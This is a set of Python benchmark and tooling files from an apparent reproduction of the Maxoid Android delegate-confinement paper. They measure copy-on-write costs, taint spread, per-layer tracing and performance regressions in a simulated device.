"""Ablations of Maxoid's design decisions (DESIGN.md section 6).

1. Unilateral per-name COW vs full snapshots (paper 3.3 argues snapshots
   are expensive and violate update visibility): measure initiator write
   cost when delegates exist, per-name vs snapshot-everything.
2. Subquery flattening on vs off for COW-view queries (footnote 5): the
   planner-path cost difference the ORDER BY workaround preserves.
3. Coarse-grained view redirection vs naive taint propagation: count how
   many apps a taint would reach through the public SD card without Maxoid
   (the "uncontrolled taint propagation" problem of section 2.3).
"""

from __future__ import annotations

import pytest

from repro import AndroidManifest, Device
from repro.core.cow import CowProxy
from repro.minisql import Database
from repro.minisql.planner import FLATTEN_ALWAYS, FLATTEN_NEVER_WITH_ORDER_BY
from repro.workloads.generators import deterministic_bytes


class _Nop:
    def main(self, api, intent):
        return None


# ---------------------------------------------------------------------------
# Ablation 1: per-name COW vs full snapshot
# ---------------------------------------------------------------------------


def _device_with_delegates(file_count=64):
    device = Device(maxoid_enabled=True)
    device.install(AndroidManifest(package="com.abl.a"), _Nop())
    device.install(AndroidManifest(package="com.abl.b"), _Nop())
    a = device.spawn("com.abl.a")
    payload = deterministic_bytes(4096)
    for index in range(file_count):
        a.write_external(f"corpus/f{index}.bin", payload)
    device.spawn("com.abl.b", initiator="com.abl.a")  # a live delegate
    return device, a


@pytest.mark.benchmark(group="ablation1-snapshot")
def bench_per_name_cow_initiator_write(benchmark):
    """Maxoid's design: initiator writes cost nothing extra while a
    delegate exists (copies are made only when *delegates* write)."""
    device, a = _device_with_delegates()
    state = {"i": 0}

    def write():
        state["i"] += 1
        a.sys.write_file(f"/storage/sdcard/corpus/f{state['i'] % 64}.bin", b"update")

    benchmark(write)


@pytest.mark.benchmark(group="ablation1-snapshot")
def bench_full_snapshot_initiator_write(benchmark):
    """The rejected design: snapshotting Pub(all) for the delegate means
    every initiator write while a delegate runs must first preserve the
    old version (copy the file aside)."""
    device, a = _device_with_delegates()
    state = {"i": 0}

    def write_with_snapshot():
        state["i"] += 1
        path = f"/storage/sdcard/corpus/f{state['i'] % 64}.bin"
        # Simulate the snapshot obligation: copy-before-write.
        old = a.sys.read_file(path)
        a.sys.makedirs("/storage/sdcard/.snapshot")
        a.sys.write_file(f"/storage/sdcard/.snapshot/f{state['i'] % 64}.bin", old)
        a.sys.write_file(path, b"update")

    benchmark(write_with_snapshot)


# ---------------------------------------------------------------------------
# Ablation 2: flattening on/off
# ---------------------------------------------------------------------------


def _cow_database(emulation, rows=500, delta_rows=50):
    db = Database(sqlite_emulation=emulation)
    db.execute("CREATE TABLE t (_id INTEGER PRIMARY KEY, v TEXT)")
    for index in range(rows):
        db.execute("INSERT INTO t (v) VALUES (?)", [f"row{index}"])
    db.execute(
        "CREATE TABLE t_delta (_id INTEGER PRIMARY KEY, v TEXT, _whiteout INTEGER DEFAULT 0)"
    )
    for index in range(delta_rows):
        db.execute(
            "INSERT OR REPLACE INTO t_delta (_id, v, _whiteout) VALUES (?, ?, 0)",
            [index + 1, f"delta{index}"],
        )
    db.execute(
        "CREATE VIEW t_view AS "
        "SELECT _id, v FROM t WHERE _id NOT IN (SELECT _id FROM t_delta) "
        "UNION ALL SELECT _id, v FROM t_delta WHERE _whiteout = 0"
    )
    return db


@pytest.mark.benchmark(group="ablation2-flattening")
def bench_cow_query_flattened(benchmark):
    db = _cow_database(FLATTEN_ALWAYS)
    result = benchmark(db.execute, "SELECT v FROM t_view ORDER BY _id LIMIT 10")
    assert len(result.rows) == 10
    assert db.stats.materialized_views == 0


@pytest.mark.benchmark(group="ablation2-flattening")
def bench_cow_query_materialized(benchmark):
    """The 3.7.11 behaviour the proxy's workaround avoids: the whole view
    materializes into a temp table before ORDER BY."""
    db = _cow_database(FLATTEN_NEVER_WITH_ORDER_BY)
    result = benchmark(db.execute, "SELECT v FROM t_view ORDER BY _id LIMIT 10")
    assert len(result.rows) == 10
    assert db.stats.materialized_views > 0


# ---------------------------------------------------------------------------
# Ablation 3: taint spread without view redirection
# ---------------------------------------------------------------------------


@pytest.mark.benchmark(group="ablation3-taint")
def bench_taint_spread_stock_android(benchmark):
    """Model section 2.3's uncontrolled propagation: a tainted file on the
    public SD card taints every app that reads it; count tainted apps
    after a plausible sharing cascade on stock Android."""

    def cascade():
        device = Device(maxoid_enabled=False)
        packages = [f"com.taint.app{i}" for i in range(10)]
        for package in packages:
            device.install(AndroidManifest(package=package), _Nop())
        # App 0 writes a tainted file publicly (the Adobe-copies-attachment
        # behaviour); every later app reads something public and re-writes.
        first = device.spawn(packages[0])
        first.write_external("shared/t0.bin", b"TAINT")
        tainted = {packages[0]}
        for index, package in enumerate(packages[1:], start=1):
            api = device.spawn(package)
            data = api.sys.read_file(f"/storage/sdcard/shared/t{index - 1}.bin")
            if b"TAINT" in data:
                tainted.add(package)
            api.write_external(f"shared/t{index}.bin", data)
        return tainted

    tainted = benchmark(cascade)
    assert len(tainted) == 10  # everyone ends up tainted


@pytest.mark.benchmark(group="ablation3-taint")
def bench_taint_spread_maxoid(benchmark):
    """Under Maxoid the tainted writes stay in Vol(A): zero spread."""

    def cascade():
        device = Device(maxoid_enabled=True)
        packages = [f"com.taint.app{i}" for i in range(10)]
        for package in packages:
            device.install(AndroidManifest(package=package), _Nop())
        initiator = packages[0]
        first = device.spawn(initiator)
        first.write_internal("secret.bin", b"TAINT")
        # The helper runs confined and copies the secret "publicly".
        delegate = device.spawn(packages[1], initiator=initiator)
        secret = delegate.sys.read_file(f"/data/data/{initiator}/secret.bin")
        delegate.write_external("shared/leak.bin", secret)
        tainted = {initiator, packages[1]}
        for package in packages[2:]:
            api = device.spawn(package)
            if api.sys.exists("/storage/sdcard/shared/leak.bin"):
                tainted.add(package)
        return tainted

    tainted = benchmark(cascade)
    assert len(tainted) == 2  # confinement stops the cascade
