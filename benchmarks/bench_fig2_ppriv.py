"""Figure 2: normal and persistent private state over time.

Replays the figure's timeline (fork at v1, delegate edits, normal run
bumps to v2, re-fork discards nPriv but keeps pPriv, B^C isolated) and
times a full delegate-invocation cycle including the divergence check.
"""

from __future__ import annotations

import pytest

from repro import AndroidManifest, Device

A = "com.fig2.initA"
B = "com.fig2.viewer"
C = "com.fig2.initC"


class _Nop:
    def main(self, api, intent):
        return None


def fresh_device():
    device = Device(maxoid_enabled=True)
    for package in (A, B, C):
        device.install(AndroidManifest(package=package), _Nop())
    return device


def ppriv_names(api):
    db = api.ppriv.database("recent")
    if "recent" not in db.table_names():
        db.execute("CREATE TABLE recent (id INTEGER PRIMARY KEY, name TEXT)")
        return []
    return [r[0] for r in db.query("SELECT name FROM recent ORDER BY id").rows]


def ppriv_add(api, name):
    db = api.ppriv.database("recent")
    if "recent" not in db.table_names():
        db.execute("CREATE TABLE recent (id INTEGER PRIMARY KEY, name TEXT)")
    db.execute("INSERT INTO recent (name) VALUES (?)", [name])


@pytest.mark.benchmark(group="fig2-lifecycle")
def bench_figure2_timeline(benchmark):
    def run():
        device = fresh_device()
        # v1 of Priv(B).
        device.spawn(B).prefs.put("version", "v1")
        # B^A: fork, delegate edits, pPriv entry.
        ba = device.spawn(B, initiator=A)
        assert ba.prefs.get("version") == "v1"
        ba.prefs.put("version", "delegate-edit")
        ppriv_add(ba, "attachment.pdf")
        # Normal run: sees v1, writes v2.
        b = device.spawn(B)
        assert b.prefs.get("version") == "v1"
        b.prefs.put("version", "v2")
        # Re-fork: nPriv discarded (sees v2), pPriv kept.
        ba2 = device.spawn(B, initiator=A)
        assert ba2.prefs.get("version") == "v2"
        assert ppriv_names(ba2) == ["attachment.pdf"]
        # B^C: isolated pPriv.
        bc = device.spawn(B, initiator=C)
        assert ppriv_names(bc) == []
        return True

    assert benchmark(run)


@pytest.mark.benchmark(group="fig2-lifecycle")
def bench_delegate_fork_with_divergence_check(benchmark):
    """The per-invocation cost of the section 3.2 machinery alone: version
    stamp + conditional discard + namespace build."""
    device = fresh_device()
    device.spawn(B).prefs.put("seed", "x")

    def spawn_delegate():
        return device.spawn(B, initiator=A)

    api = benchmark(spawn_delegate)
    assert api.process.context.is_delegate
