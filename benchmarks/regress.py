"""The BENCH regression gate: compare a perf artifact to the baseline.

Reads a current ``BENCH_*.json`` artifact (written by
``benchmarks/perf_suite.py``, ``report_tables.py --bench-json``, or the
overhead regressions via ``$BENCH_OBS_JSON``), compares every time-like
metric against the committed baseline with a noise-aware rule, appends
the verdict to ``BENCH_trajectory.json``, and exits nonzero on
regression.

The rule, per metric: the current value regresses when it exceeds ::

    baseline + max(k * MAD, budget * baseline, min_ms)

where MAD is the baseline's recorded median-absolute-deviation for that
op (0 when the section has none, e.g. layer self-times), ``budget`` is a
relative allowance configurable per group (``--budget vfs=0.5`` gives the
``vfs`` layer 50%), and ``min_ms`` is an absolute floor that keeps
microsecond-scale noise from flagging. Metrics faster than baseline
never fail — improvements are reported, not punished.

Runs are refused (exit 2) when their artifact schema versions differ, or
— with ``--strict-meta`` — when python/platform metadata disagrees;
cross-machine comparisons otherwise just warn.

Usage::

    PYTHONPATH=src python benchmarks/regress.py \
        [--current BENCH_perf.json] [--baseline benchmarks/BENCH_baseline.json] \
        [--trajectory BENCH_trajectory.json] [--k 5] [--default-budget 0.25] \
        [--budget GROUP=FRACTION ...] [--min-ms 0.02] [--warn-only]

Exit codes: 0 ok (or ``--warn-only``), 1 regression, 2 incompatible or
missing artifacts.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Tuple

# Make the suite runnable both as ``python benchmarks/regress.py`` and as
# the ``benchmarks.regress`` module.
if __package__ in (None, ""):
    sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))

from repro.obs.artifacts import SCHEMA_VERSION  # noqa: E402

#: Metric-name suffixes the gate compares (time-like, lower is better).
COMPARED_SUFFIXES = ("median_ms", "self_ms")

#: Default relative allowance for ``layers.*`` self-times: absolute
#: per-layer totals over a handful of invocations swing far more between
#: runs than trial medians do, so the layer gate only catches 2x-and-up
#: blowups unless ``--budget LAYER=...`` tightens a specific layer.
DEFAULT_LAYER_BUDGET = 1.0

#: Sections that are metadata, never metrics.
META_SECTIONS = ("run", "meta")


@dataclass(frozen=True)
class Verdict:
    """One compared metric's outcome."""

    metric: str
    group: str
    baseline_ms: float
    current_ms: float
    allowed_ms: float
    regressed: bool
    improved: bool

    def describe(self) -> str:
        arrow = "REGRESSED" if self.regressed else ("improved" if self.improved else "ok")
        return (
            f"{self.metric}: {self.baseline_ms:.3f} -> {self.current_ms:.3f} ms "
            f"(allowed <= {self.allowed_ms:.3f}) {arrow}"
        )


def load_artifact(path: str) -> Dict[str, Any]:
    with open(path, "r", encoding="utf-8") as fh:
        document = json.load(fh)
    if not isinstance(document, dict):
        raise ValueError(f"{path}: artifact must be a JSON object")
    return document


def flatten_metrics(document: Dict[str, Any]) -> Dict[str, float]:
    """Numeric leaves as dotted paths, metadata sections excluded."""
    flat: Dict[str, float] = {}

    def walk(prefix: str, value: Any) -> None:
        if isinstance(value, dict):
            for key, child in value.items():
                walk(f"{prefix}.{key}" if prefix else str(key), child)
        elif isinstance(value, (int, float)) and not isinstance(value, bool):
            flat[prefix] = float(value)

    for section, value in document.items():
        if section in META_SECTIONS:
            continue
        walk(section, value)
    return flat


def check_compatibility(
    current: Dict[str, Any], baseline: Dict[str, Any], strict: bool
) -> Tuple[List[str], List[str]]:
    """Returns ``(errors, warnings)``; any error blocks the comparison."""
    errors: List[str] = []
    warnings: List[str] = []
    cur_run = current.get("run") or {}
    base_run = baseline.get("run") or {}
    cur_schema = cur_run.get("schema_version")
    base_schema = base_run.get("schema_version")
    if cur_schema != base_schema:
        errors.append(
            f"artifact schema mismatch: current={cur_schema!r} "
            f"baseline={base_schema!r} (gate schema {SCHEMA_VERSION})"
        )
    for key in ("python", "platform", "implementation"):
        if base_run.get(key) != cur_run.get(key):
            message = (
                f"run metadata differs on {key}: current={cur_run.get(key)!r} "
                f"baseline={base_run.get(key)!r}"
            )
            (errors if strict else warnings).append(message)
    return errors, warnings


def _group(metric: str) -> str:
    """The budget group: the op/layer component of the dotted path —
    ``layers.vfs.self_ms`` -> ``vfs``, ``micro.delegate_launch.median_ms``
    -> ``delegate_launch``."""
    parts = metric.split(".")
    return parts[-2] if len(parts) >= 2 else parts[0]


def _mad_for(metric: str, baseline_flat: Dict[str, float]) -> float:
    """The baseline's recorded MAD next to a ``median_ms`` metric."""
    if metric.endswith(".median_ms"):
        return baseline_flat.get(metric[: -len(".median_ms")] + ".mad_ms", 0.0)
    return 0.0


def compare(
    current_flat: Dict[str, float],
    baseline_flat: Dict[str, float],
    k: float = 5.0,
    budgets: Optional[Dict[str, float]] = None,
    default_budget: float = 0.25,
    min_ms: float = 0.02,
    layer_budget: float = DEFAULT_LAYER_BUDGET,
) -> List[Verdict]:
    """Apply the median ± k·MAD rule over every shared time-like metric."""
    budgets = budgets or {}
    verdicts: List[Verdict] = []
    for metric in sorted(baseline_flat):
        if not metric.endswith(COMPARED_SUFFIXES):
            continue
        current = current_flat.get(metric)
        if current is None:
            continue
        baseline = baseline_flat[metric]
        group = _group(metric)
        fallback = layer_budget if metric.startswith("layers.") else default_budget
        budget = budgets.get(group, fallback)
        allowance = max(
            k * _mad_for(metric, baseline_flat), budget * baseline, min_ms
        )
        allowed = baseline + allowance
        verdicts.append(
            Verdict(
                metric=metric,
                group=group,
                baseline_ms=baseline,
                current_ms=current,
                allowed_ms=allowed,
                regressed=current > allowed,
                improved=current < baseline - allowance,
            )
        )
    return verdicts


def append_trajectory(path: str, entry: Dict[str, Any]) -> List[Dict[str, Any]]:
    """Append ``entry`` to the JSON-array trajectory file at ``path``."""
    history: List[Dict[str, Any]] = []
    try:
        with open(path, "r", encoding="utf-8") as fh:
            loaded = json.load(fh)
        if isinstance(loaded, list):
            history = loaded
    except (OSError, ValueError):
        pass
    history.append(entry)
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(history, fh, indent=2, sort_keys=True)
        fh.write("\n")
    return history


def trajectory_entry(
    current: Dict[str, Any], verdicts: List[Verdict], ok: bool
) -> Dict[str, Any]:
    return {
        "run": current.get("run", {}),
        "ok": ok,
        "checked": len(verdicts),
        "regressions": [v.describe() for v in verdicts if v.regressed],
        "improvements": [v.describe() for v in verdicts if v.improved],
        "metrics": {v.metric: round(v.current_ms, 6) for v in verdicts},
    }


def parse_budgets(pairs: List[str]) -> Dict[str, float]:
    budgets: Dict[str, float] = {}
    for pair in pairs:
        if "=" not in pair:
            raise ValueError(f"--budget wants GROUP=FRACTION, got {pair!r}")
        group, _, raw = pair.partition("=")
        budgets[group.strip()] = float(raw)
    return budgets


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(
        description="Compare a BENCH_*.json artifact against the committed baseline."
    )
    parser.add_argument("--current", default="BENCH_perf.json")
    parser.add_argument(
        "--baseline", default=os.path.join(os.path.dirname(__file__), "BENCH_baseline.json")
    )
    parser.add_argument(
        "--trajectory", default="BENCH_trajectory.json",
        help="append the verdict here ('' disables)",
    )
    parser.add_argument("--k", type=float, default=5.0, help="MAD multiplier")
    parser.add_argument(
        "--default-budget", type=float, default=0.25,
        help="relative allowance when no per-group budget is given",
    )
    parser.add_argument(
        "--layer-budget", type=float, default=DEFAULT_LAYER_BUDGET,
        help="default relative allowance for layers.* self-times",
    )
    parser.add_argument(
        "--budget", action="append", default=[], metavar="GROUP=FRACTION",
        help="per-layer/per-op relative allowance (repeatable), e.g. vfs=0.5",
    )
    parser.add_argument(
        "--min-ms", type=float, default=0.02,
        help="absolute floor below which differences never flag",
    )
    parser.add_argument(
        "--warn-only", action="store_true",
        help="report regressions but exit 0 (first-landing mode for CI)",
    )
    parser.add_argument(
        "--strict-meta", action="store_true",
        help="refuse cross-python/platform comparisons instead of warning",
    )
    args = parser.parse_args(argv)

    try:
        current = load_artifact(args.current)
        baseline = load_artifact(args.baseline)
        budgets = parse_budgets(args.budget)
    except (OSError, ValueError) as exc:
        print(f"regress: {exc}", file=sys.stderr)
        return 2

    errors, warnings = check_compatibility(current, baseline, strict=args.strict_meta)
    for warning in warnings:
        print(f"regress: warning: {warning}", file=sys.stderr)
    if errors:
        for error in errors:
            print(f"regress: refusing to compare: {error}", file=sys.stderr)
        return 2

    verdicts = compare(
        flatten_metrics(current),
        flatten_metrics(baseline),
        k=args.k,
        budgets=budgets,
        default_budget=args.default_budget,
        min_ms=args.min_ms,
        layer_budget=args.layer_budget,
    )
    if not verdicts:
        print("regress: refusing to compare: no shared time-like metrics", file=sys.stderr)
        return 2
    regressions = [v for v in verdicts if v.regressed]
    improvements = [v for v in verdicts if v.improved]
    ok = not regressions

    print(f"-- perf gate: {len(verdicts)} metrics vs {args.baseline} --")
    for verdict in regressions:
        print(f"  REGRESSED  {verdict.describe()}")
    for verdict in improvements:
        print(f"  improved   {verdict.describe()}")
    if ok:
        print("  no regressions")

    if args.trajectory:
        append_trajectory(args.trajectory, trajectory_entry(current, verdicts, ok))
        print(f"  trajectory -> {args.trajectory}")

    if regressions and args.warn_only:
        print("regress: regressions found, but --warn-only is set", file=sys.stderr)
        return 0
    return 1 if regressions else 0


if __name__ == "__main__":
    sys.exit(main())
