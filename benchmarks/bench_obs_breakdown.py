"""Per-layer breakdown of a delegate invocation (the obs subsystem demo).

Answers the ROADMAP question perf PRs need a baseline for: where does the
time of one delegate launch go — Zygote fork, Aufs lookups/copy-up, the
COW proxy, the SQL engine? Run with ``-s`` to see the breakdown tables;
add ``--obs-jsonl DIR`` to keep the raw span dumps.
"""

from __future__ import annotations

import pytest

from repro import AndroidManifest, Device, Intent
from repro.android.content.provider import ContentValues
from repro.android.uri import Uri
from repro.obs import critical_paths, layer_self_times, span_time

BENCH_INITIATOR = "com.bench.initiator"
WORKER = "com.bench.worker"


class _Worker:
    """A delegate that exercises every layer: files (with copy-up), a
    provider insert (COW proxy + SQL), and volatile writes."""

    def main(self, api, intent):
        api.sys.append_file("/storage/sdcard/shared/report.txt", b" delegate-note")
        api.write_external("out/result.bin", b"r" * 4096)
        api.insert(
            Uri.content("user_dictionary", "words"),
            ContentValues({"word": "traced", "frequency": 1, "locale": "en"}),
        )
        return "done"


def _device():
    device = Device(maxoid_enabled=True)
    device.install(AndroidManifest(package=BENCH_INITIATOR), _Worker())
    device.install(AndroidManifest(package=WORKER), _Worker())
    seed = device.spawn(BENCH_INITIATOR)
    seed.sys.makedirs("/storage/sdcard/shared")
    seed.sys.write_file("/storage/sdcard/shared/report.txt", b"p" * 65536)
    return device


@pytest.mark.benchmark(group="obs-breakdown")
def bench_delegate_launch_breakdown(benchmark, obs_capture):
    """One traced delegate launch; asserts the trace covers every layer and
    reports copy-up time as a fraction of the launch."""
    device = _device()

    def launch():
        return device.launch_as_delegate(
            WORKER, BENCH_INITIATOR, Intent("android.intent.action.MAIN")
        )

    invocation = benchmark(launch)
    assert invocation.result == "done"

    spans = obs_capture.spans()
    times = layer_self_times(spans)
    for layer in ("zygote", "vfs", "aufs", "cow", "sql"):
        assert layer in times, f"no {layer} spans in the delegate launch trace"
    launch_ms = sum(times.values())
    copy_up_ms = span_time(spans, "aufs.copy_up")
    if launch_ms > 0:
        print(f"\ncopy-up: {copy_up_ms:.3f} ms "
              f"({copy_up_ms / launch_ms * 100.0:.1f}% of traced launch time)")
    # The hot chain through the slowest invocation, with layer attribution.
    reports = critical_paths(obs_capture.trees(), min_ms=0.0)
    launches = [r for r in reports if r.root.startswith("am.")]
    if launches:
        print(launches[0].render())
        assert launches[0].coverage >= 0.95, (
            f"critical path only attributes {launches[0].coverage * 100.0:.1f}% "
            "of the launch's wall time"
        )
