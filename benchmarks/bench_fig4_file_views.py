"""Figure 4: views of files for A, B^A and X.

The figure's exact scenario: files a (public), b (in Priv(A), which A
wants edited) and c (public, side-changed by B^A). After B^A edits b and c:

- B^A sees its updated versions at the original names (read-your-writes);
- A sees the originals at the original names and the updated versions
  under EXTDIR/tmp (Vol(A));
- X sees only the original public files and nothing of Priv(A) or Vol(A).
"""

from __future__ import annotations

import pytest

from repro import AndroidManifest, Device, MaxoidManifest

A = "com.fig4.a"
B = "com.fig4.b"
X = "com.fig4.x"


class _Nop:
    def main(self, api, intent):
        return None


def build_scenario():
    device = Device(maxoid_enabled=True)
    device.install(
        AndroidManifest(package=A, maxoid=MaxoidManifest(private_ext_dirs=["data/A"])),
        _Nop(),
    )
    device.install(AndroidManifest(package=B), _Nop())
    device.install(AndroidManifest(package=X), _Nop())
    a = device.spawn(A)
    a.write_external("a.txt", b"public file a")          # Pub(all)
    a.write_external("data/A/b.txt", b"private file b")  # Priv(A)
    a.write_external("c.txt", b"public file c")          # Pub(all)
    return device, a


@pytest.mark.benchmark(group="fig4-views")
def bench_figure4_scenario(benchmark):
    def run():
        device, a = build_scenario()
        delegate = device.spawn(B, initiator=A)
        # B^A edits b (the wanted edit) and side-changes c.
        delegate.sys.write_file("/storage/sdcard/data/A/b.txt", b"b EDITED")
        delegate.sys.write_file("/storage/sdcard/c.txt", b"c side effect")
        return device, a, delegate

    device, a, delegate = benchmark(run)

    # B^A's view: its own writes at the original names, a unchanged.
    assert delegate.sys.read_file("/storage/sdcard/a.txt") == b"public file a"
    assert delegate.sys.read_file("/storage/sdcard/data/A/b.txt") == b"b EDITED"
    assert delegate.sys.read_file("/storage/sdcard/c.txt") == b"c side effect"

    # A's view: originals in place, updates under tmp.
    assert a.sys.read_file("/storage/sdcard/data/A/b.txt") == b"private file b"
    assert a.sys.read_file("/storage/sdcard/c.txt") == b"public file c"
    assert a.sys.read_file("/storage/sdcard/tmp/data/A/b.txt") == b"b EDITED"
    assert a.sys.read_file("/storage/sdcard/tmp/c.txt") == b"c side effect"

    # X's view: original public files only; no Priv(A), no Vol(A).
    x = device.spawn(X)
    assert x.sys.read_file("/storage/sdcard/a.txt") == b"public file a"
    assert x.sys.read_file("/storage/sdcard/c.txt") == b"public file c"
    assert not x.sys.exists("/storage/sdcard/data/A/b.txt")
    assert not x.sys.exists("/storage/sdcard/tmp/c.txt")
