"""Shared benchmark fixtures.

Every benchmark compares up to three configurations, matching the paper's
evaluation:

- ``android`` — the stock baseline (``Device(maxoid_enabled=False)``);
- ``initiator`` — Maxoid enabled, the measured app runs on behalf of
  itself;
- ``delegate`` — Maxoid enabled, the measured app runs on behalf of an
  initiator.

Run with ``pytest benchmarks/ --benchmark-only``; the pytest-benchmark
table then shows the three configurations side by side per operation, the
shape the paper's Tables 3-5 report. ``benchmarks/report_tables.py``
renders the same data as paper-style tables for EXPERIMENTS.md.
"""

from __future__ import annotations

import os
import re

import pytest

from repro import AndroidManifest, Device
from repro.apps import install_standard_apps
from repro.obs import OBS, format_breakdown


def pytest_addoption(parser):
    parser.addoption(
        "--obs-jsonl",
        action="store",
        default=None,
        metavar="DIR",
        help="dump one JSONL trace file per benchmark using the obs_capture "
        "fixture into DIR (created if missing)",
    )
    parser.addoption(
        "--obs-prom",
        action="store",
        default=None,
        metavar="DIR",
        help="dump a Prometheus-text metrics file per benchmark using the "
        "obs_capture fixture into DIR (created if missing)",
    )
    parser.addoption(
        "--obs-perfetto",
        action="store",
        default=None,
        metavar="DIR",
        help="dump a Chrome/Perfetto trace-event JSON file per benchmark "
        "using the obs_capture fixture into DIR (open in ui.perfetto.dev)",
    )
    parser.addoption(
        "--faults-seed",
        action="store",
        default=None,
        type=int,
        metavar="SEED",
        help="arm probabilistic fault injection (via the chaos_faults "
        "fixture) with this seed; the same seed reproduces the same fault "
        "schedule byte-for-byte",
    )


class _NopApp:
    def main(self, api, intent):
        return None


BENCH_APP = "com.bench.app"
BENCH_INITIATOR = "com.bench.initiator"


def make_device(maxoid: bool) -> Device:
    device = Device(maxoid_enabled=maxoid)
    device.install(AndroidManifest(package=BENCH_APP), _NopApp())
    device.install(AndroidManifest(package=BENCH_INITIATOR), _NopApp())
    return device


def spawn_for(device: Device, config: str):
    """An AppApi for the measured app under the given configuration."""
    if config == "delegate":
        return device.spawn(BENCH_APP, initiator=BENCH_INITIATOR)
    return device.spawn(BENCH_APP)


@pytest.fixture(params=["android", "initiator", "delegate"])
def config(request):
    return request.param


@pytest.fixture
def bench_device(config):
    return make_device(maxoid=config != "android")


@pytest.fixture
def bench_api(bench_device, config):
    return spawn_for(bench_device, config)


@pytest.fixture
def obs_capture(request):
    """Cross-layer tracing + metrics for one benchmark.

    Yields the enabled :data:`repro.obs.OBS` instance; the benchmark body
    runs traced, and at teardown a per-layer self-time breakdown is printed
    (visible with ``-s``). With ``--obs-jsonl DIR`` the finished spans are
    also dumped to ``DIR/<test>.jsonl`` for offline analysis; with
    ``--obs-prom DIR`` the metrics registry is dumped to ``DIR/<test>.prom``
    in the Prometheus text format.
    """
    stem = re.sub(r"[^\w.-]+", "_", request.node.nodeid)
    out_dir = request.config.getoption("--obs-jsonl")
    jsonl_path = None
    if out_dir:
        os.makedirs(out_dir, exist_ok=True)
        jsonl_path = os.path.join(out_dir, f"{stem}.jsonl")
    prom_dir = request.config.getoption("--obs-prom")
    perfetto_dir = request.config.getoption("--obs-perfetto")
    with OBS.capture(jsonl_path=jsonl_path, profile=bool(perfetto_dir)) as obs:
        yield obs
        if prom_dir:
            os.makedirs(prom_dir, exist_ok=True)
            prom_path = os.path.join(prom_dir, f"{stem}.prom")
            with open(prom_path, "w", encoding="utf-8") as fh:
                fh.write(obs.metrics.to_prometheus_text())
        if perfetto_dir:
            from repro.obs.export import write_chrome_trace

            os.makedirs(perfetto_dir, exist_ok=True)
            write_chrome_trace(
                os.path.join(perfetto_dir, f"{stem}.trace.json"), obs.trees()
            )
        spans = obs.spans()
        if spans:
            print()
            print(format_breakdown(spans, title=request.node.name))


@pytest.fixture
def chaos_faults(request):
    """Seeded chaos for one benchmark (no-op without ``--faults-seed``).

    With ``--faults-seed SEED``, every registered fault point is armed
    with a low-probability error policy derived from SEED; the benchmark
    then measures the system under fault load, and the schedule it prints
    is reproducible by re-running with the same SEED. Yields the fault
    plane (disabled when the option is absent).
    """
    from repro.workloads.harness import arm_chaos

    seed = request.config.getoption("--faults-seed")
    if seed is None:
        from repro.faults import FAULTS

        yield FAULTS
        return
    with arm_chaos(seed) as plane:
        yield plane
        if plane.injection_log:
            print()
            print(
                f"chaos seed {seed}: {len(plane.injection_log)} faults over "
                f"{len(plane.schedule)} consults"
            )


@pytest.fixture
def loaded_bench_device():
    """A Maxoid device with the full app catalog (figure/use-case benches)."""
    device = Device(maxoid_enabled=True)
    device.network.publish("dropbox.com", "report.pdf", b"%PDF dropbox report")
    device.network.publish("example.com", "leaflet.pdf", b"%PDF leaflet")
    device.apps = install_standard_apps(device)
    return device
