"""Figure 5: the COW proxy between the content provider and SQLite.

The figure shows the proxy interposed on the SQLite API, maintaining
per-initiator delta tables, per-table COW views, and a *hierarchy* of COW
views for provider-defined SQL views (Media's ``audio`` over
``audio_meta`` over ``files``). The bench drives that exact hierarchy and
times proxy operations against raw-database operations (the interposition
cost the paper keeps under ~18%).
"""

from __future__ import annotations

import pytest

from repro.core.cow import CowProxy
from repro.minisql import Database

A = "com.fig5.initiator"


def media_like_proxy():
    proxy = CowProxy()
    proxy.create_table(
        "CREATE TABLE files (_id INTEGER PRIMARY KEY, _data TEXT, media_type INTEGER, "
        "title TEXT, artist_id INTEGER, album_id INTEGER)"
    )
    proxy.create_table("CREATE TABLE artists (artist_id INTEGER PRIMARY KEY, artist TEXT)")
    proxy.create_table("CREATE TABLE albums (album_id INTEGER PRIMARY KEY, album TEXT)")
    proxy.create_user_view(
        "audio_meta",
        "SELECT _id, _data, title, artist_id, album_id FROM files WHERE media_type = 2",
    )
    proxy.create_user_view(
        "audio",
        "SELECT am._id, am.title, ar.artist, al.album FROM audio_meta am, artists ar, "
        "albums al WHERE am.artist_id = ar.artist_id AND am.album_id = al.album_id",
    )
    for index in range(50):
        proxy.insert("artists", None, {"artist": f"artist{index}"})
        proxy.insert("albums", None, {"album": f"album{index}"})
        proxy.insert(
            "files",
            None,
            {
                "_data": f"/m/{index}.mp3",
                "media_type": 2,
                "title": f"song{index}",
                "artist_id": index + 1,
                "album_id": index + 1,
            },
        )
    return proxy


@pytest.mark.benchmark(group="fig5-proxy-interposition")
def bench_raw_database_query(benchmark):
    """Baseline: the provider using SQLite directly (no proxy)."""
    db = Database()
    db.execute("CREATE TABLE files (_id INTEGER PRIMARY KEY, title TEXT, media_type INTEGER)")
    for index in range(50):
        db.execute("INSERT INTO files (title, media_type) VALUES (?, 2)", [f"song{index}"])

    result = benchmark(db.execute, "SELECT title FROM files WHERE media_type = 2")
    assert len(result.rows) == 50


@pytest.mark.benchmark(group="fig5-proxy-interposition")
def bench_proxy_public_query(benchmark):
    """The proxy in the path, public caller: should be near the baseline."""
    proxy = media_like_proxy()
    result = benchmark(proxy.query, "audio_meta", None, projection=["title"])
    assert len(result.rows) == 50


@pytest.mark.benchmark(group="fig5-proxy-interposition")
def bench_proxy_delegate_query(benchmark):
    """Delegate caller with volatile state: COW view in the path."""
    proxy = media_like_proxy()
    proxy.update("files", A, {"title": "volatile-song"}, "_id = 1")
    result = benchmark(proxy.query, "audio_meta", A, projection=["title"])
    assert len(result.rows) == 50


@pytest.mark.benchmark(group="fig5-hierarchy")
def bench_cow_view_hierarchy_build(benchmark):
    """On-demand creation of the full COW view hierarchy for an initiator
    (the proxy's administrative cost, paid once per initiator)."""

    def build():
        proxy = media_like_proxy()
        proxy.insert("files", A, {"_data": "/v.mp3", "media_type": 2, "title": "v",
                                  "artist_id": 1, "album_id": 1})
        # Touch the top of the hierarchy so every level materializes.
        proxy.query("audio", A)
        return proxy

    proxy = build()
    assert proxy.stats.cow_views_created >= 4  # files + artists + albums + views
    benchmark(build)


@pytest.mark.benchmark(group="fig5-hierarchy")
def bench_joined_view_query_through_hierarchy(benchmark):
